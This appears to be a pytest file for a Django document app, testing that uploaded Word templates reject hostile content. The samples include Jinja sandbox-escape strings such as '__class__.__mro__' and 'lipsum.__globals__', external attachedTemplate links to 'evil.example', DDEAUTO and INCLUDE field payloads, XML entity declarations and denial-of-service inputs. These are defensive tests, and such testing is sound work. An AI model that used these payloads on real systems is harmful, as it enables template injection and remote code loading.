"""What may stand in a Word template: a short list; everything else is refused by name."""

from __future__ import annotations

import io
import os
import re
import time
import zipfile
from pathlib import Path
from typing import Any

import docx
import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.documents.test_uploads import word
from townhall.documents import actions, converting, render, templates
from townhall.documents.papers import Paper, Table
from townhall.kernel.errors import InvalidFields, Refused
from townhall.people import actions as people


def text_of(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def refused(data: bytes, name: str = "notice") -> str:
    with pytest.raises(InvalidFields) as invalid:
        templates.check(name, data)
    return str(invalid.value.errors["file"])


@pytest.mark.parametrize("name", templates.TEMPLATES)
def test_what_is_shipped_passes_its_own_check(name: str) -> None:
    templates.check(name, templates.shipped(name))


HOSTILE = [
    ("{{ secret }}", "secret"),
    ("{{ title.__class__ }}", "title.__class__"),
    ("{{ ''.__class__.__mro__ }}", "Const"),
    ("{{ title|attr('__class__') }}", "|attr"),
    ("{% set a = 1 %}", "set"),
    ("{{ range(9) }}", "range()"),
    ("{{ lipsum.__globals__ }}", "lipsum"),
    ("{{ cycler }}", "cycler"),
    ("{{ self }}", "self"),
    ("{{ paragraphs[0] }}", "paragraphs"),
    ("{% include 'x' %}", "include"),
    ("{% import 'x' as y %}", "import"),
    ("{% macro x() %}{% endmacro %}", "macro"),
    ("{{ title.upper() }}", "title.upper()"),
    ("{{ 2**99999 }}", "Pow"),
    ("{{ 'a' * 99999999 }}", "Mul"),
    ("{% for a in title %}{% endfor %}", "title"),
    ("{% for a in facts %}{{ a.other }}{% endfor %}", "a.other"),
    ("{{ title is callable }}", "is callable"),
    ("{{r title }}", "{{r title }}"),
    ("{{ title", "花括号"),
    ("{% for a in facts %}", "花括号"),
    ("{% if %}", "花括号"),
]


@pytest.mark.parametrize(("source", "named"), HOSTILE, ids=[source for source, _named in HOSTILE])
def test_what_may_not_stand_there_is_refused_by_name(source: str, named: str) -> None:
    assert named in refused(word("通知", source))


def test_a_placeholder_in_a_header_is_looked_at_too() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "{{ secret }}"
    out = io.BytesIO()
    document.save(out)
    assert "secret" in refused(out.getvalue())


def rewritten(data: bytes, name: str, before: str, after: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.infolist():
            text = old.read(part)
            new.writestr(
                part, text.replace(before.encode(), after.encode()) if part.filename == name else text
            )
    return out.getvalue()


def test_a_template_that_reaches_outside_is_refused() -> None:
    link = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    data = rewritten(word(), "word/_rels/document.xml.rels", "</Relationships>", link)
    assert "document.xml.rels" in refused(data)


_OUTSIDE = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="http://evil.example/x" {more}/></Relationships>'
)


@pytest.mark.parametrize(
    ("kind", "more"),
    [
        ("image", 'TargetMode="&#69;xternal"'),
        ("attachedTemplate", 'Note="/relationships/hyperlink" TargetMode="External"'),
        ("image", "TargetMode\n = 'external'"),
    ],
)
def test_reaching_outside_is_seen_however_it_is_written(kind: str, more: str) -> None:
    name = "word/_rels/document.xml.rels"
    data = rewritten(word(), name, "</Relationships>", _OUTSIDE.format(kind=kind, more=more))
    assert name in refused(data)


def test_reaching_outside_is_seen_in_every_encoding() -> None:
    name, out = "word/_rels/document.xml.rels", io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.infolist():
            text = old.read(part)
            if part.filename == name:
                outside = _OUTSIDE.format(kind="image", more='TargetMode="External"')
                words = text.decode().replace("</Relationships>", outside)
                text = re.sub("encoding=(['\"]).*?\\1", "encoding='UTF-16'", words).encode("utf-16")
            new.writestr(part, text)
    assert name in refused(out.getvalue())


def test_a_link_that_a_reader_may_follow_is_no_reaching_outside() -> None:
    link = _OUTSIDE.format(kind="hyperlink", more='TargetMode="External"')
    templates.check("notice", rewritten(word(), "word/_rels/document.xml.rels", "</Relationships>", link))


@pytest.mark.parametrize(
    "field",
    [
        '<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://x/y"</w:instrText></w:r>',
        '<w:fldSimple w:instr=" ddeauto c:\\\\x "/>',
    ],
)
def test_a_field_that_fetches_is_refused(field: str) -> None:
    data = rewritten(word("通知"), "word/document.xml", "</w:p>", f"{field}</w:p>")
    assert "document.xml" in refused(data)


def test_a_page_number_is_a_field_that_may_stand_there() -> None:
    field = '<w:fldSimple w:instr=" PAGE "/></w:p>'
    templates.check("notice", rewritten(word("通知"), "word/document.xml", "</w:p>", field))


@pytest.mark.parametrize("text", ["{{r " * 200_000, "{{ title }}" * 2001, "字" * 2_000_000])
def test_a_template_that_would_keep_the_server_busy_is_refused_at_once(text: str) -> None:
    data = rewritten(word("通知"), "word/document.xml", "通知", text)
    assert refused(data)


def test_a_template_with_an_entity_is_refused() -> None:
    data = rewritten(word(), "word/document.xml", "<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document')
    assert "DOCTYPE" in refused(data)


def test_an_office_takes_its_own_template_into_use_and_goes_back(db: None) -> None:
    clerk = people.create_account("clerk", "办事员", None)
    with pytest.raises(Refused):
        actions.adopt_template(clerk, "notice", SimpleUploadedFile("a.docx", word("{{ title }}")))
    people.give_office(clerk, "coordinator")
    own = word(
        "本区自己的红头", "{{ title }}", "{%p for one in paragraphs %}", "{{ one.text }}", "{%p endfor %}"
    )
    actions.adopt_template(clerk, "notice", SimpleUploadedFile("本区.docx", own))
    context = Paper(title="关于某事的通知", body="第一段\n第二段").context()
    assert text_of(render.docx("notice", context)).split("\n") == [
        "本区自己的红头", "关于某事的通知", "第一段", "第二段",
    ]  # fmt: skip
    actions.adopt_template(clerk, "notice", SimpleUploadedFile("又一份.docx", word("{{ title }}！")))
    assert text_of(render.docx("notice", context)) == "关于某事的通知！"
    with pytest.raises(InvalidFields):
        actions.adopt_template(clerk, "notice", SimpleUploadedFile("坏的.docx", word("{{ nothing }}")))
    assert text_of(render.docx("notice", context)) == "关于某事的通知！", "a refused one changes nothing"
    actions.retire_template(clerk, "notice")
    assert "本区自己的红头" not in text_of(render.docx("notice", context))
    with pytest.raises(Refused):
        actions.retire_template(clerk, "notice")


def test_words_in_a_paper_are_words(db: None) -> None:
    hostile = "<w:p/>&amp; {{ 7*7 }} {% x %} #panic() \x07\x00 ]]>"
    table = Table(headers=["甲", "乙", "丙", "丁"], rows=[[hostile, "=1+1", "", "丁"]] * 3, title=hostile)
    found = text_of(render.docx("notice", Paper(title=hostile, body=hostile, tables=[table]).context()))
    assert found.count("<w:p/>&amp; {{ 7*7 }} {% x %} #panic()") >= 5
    assert "49" not in found


# -- the PDF follows the template (ADR 0046)


@pytest.fixture
def own_notice(db: None) -> dict[str, Any]:
    """The office has its own notice; a paper to fill it with."""
    clerk = people.create_account("clerk", "办事员", None)
    people.give_office(clerk, "coordinator")
    actions.adopt_template(
        clerk, "notice", SimpleUploadedFile("a.docx", word("本区自己的红头", "{{ title }}"))
    )
    return Paper(title="关于某事的通知", organ="澄湖区人民政府办公室文件").context()


def test_a_pdf_follows_the_offices_own_template_and_the_fixed_layout_without_one(
    own_notice: dict[str, Any],
) -> None:
    if converting.program() is None:
        pytest.skip("LibreOffice is not installed: apt-get install libreoffice-writer-nogui")
    found = words_of(render.pdf("notice", own_notice))
    assert "本区自己的红头" in found
    assert "关于某事的通知" in found
    assert "澄湖区人民政府办公室文件" not in found, "the office's template has no red head of its own"
    assert "内部传真电报" in words_of(render.pdf("telegram", own_notice)), "only this kind of paper"
    assert "澄湖区人民政府办公室文件" in words_of(render.laid_out("notice", own_notice))


def words_of(data: bytes) -> str:
    pages = pypdf.PdfReader(io.BytesIO(data)).pages
    return "".join(page.extract_text() for page in pages).replace(" ", "").replace("\n", "")


def test_without_libreoffice_the_remedy_is_said_and_the_docx_is_made(
    own_notice: dict[str, Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(Refused) as refused_:
        render.pdf("notice", own_notice)
    assert (refused_.value.status, refused_.value.code) == (503, "no_converter")
    assert converting.REMEDY in str(refused_.value.message)
    assert "本区自己的红头" in text_of(render.docx("notice", own_notice))


@pytest.mark.parametrize(("does", "code"), [("sleep 60", "slow_converter"), ("true", "no_pdf")])
def test_a_converter_that_hangs_is_ended_and_one_that_fails_is_named(
    own_notice: dict[str, Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, does: str, code: str
) -> None:
    """A real program in LibreOffice's place: one that leaves a helper behind and hangs, one that does nothing."""
    office = tmp_path / "soffice"
    office.write_text(f"#!/bin/sh\n/bin/sleep 60 & echo $! > {tmp_path}/helper\n{does}\n")
    office.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    monkeypatch.setattr(converting, "MOST_SECONDS", 2)
    with pytest.raises(Refused) as refused_:
        render.pdf("notice", own_notice)
    assert refused_.value.code == code
    helper = int((tmp_path / "helper").read_text())
    state = Path(f"/proc/{helper}/stat")
    deadline = time.monotonic() + 10  # it is told to end; the kernel ends it when it has a moment
    while state.exists() and state.read_text().rpartition(")")[2].split()[0] != "Z":
        assert time.monotonic() < deadline, "no helper is left"
        time.sleep(0.01)
